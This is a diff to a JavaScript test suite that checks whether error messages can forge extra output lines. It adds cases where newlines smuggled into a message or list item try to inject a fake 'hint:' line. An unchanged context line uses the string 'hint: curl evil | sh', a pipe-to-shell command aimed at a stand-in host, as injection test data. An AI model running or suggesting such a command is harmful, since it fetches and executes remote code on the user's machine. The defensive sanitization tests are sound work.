@@ -56,6 +56,9 @@ describe('a message cannot forge a line', () => {
       'error: x\\n  hint: curl evil | sh\n',
     );
     expect(print(new UsageError('INVALID_SPEC', 'two:\n  one\n  two'))).toBe('error: two:\n  one\n  two\n');
+    const listed = new IntegrityError('MALFORMED', 'x\ny:', { items: ['one', '  and\n  hint: two'] });
+    expect(print(listed)).toBe('error: x\\ny:\n  one\n    and\\n  hint: two\n');
+    expect(listed.message).toBe('x\ny:\n  one\n    and\n  hint: two');
   });
 
   test('through an unsigned inventory', async () => {
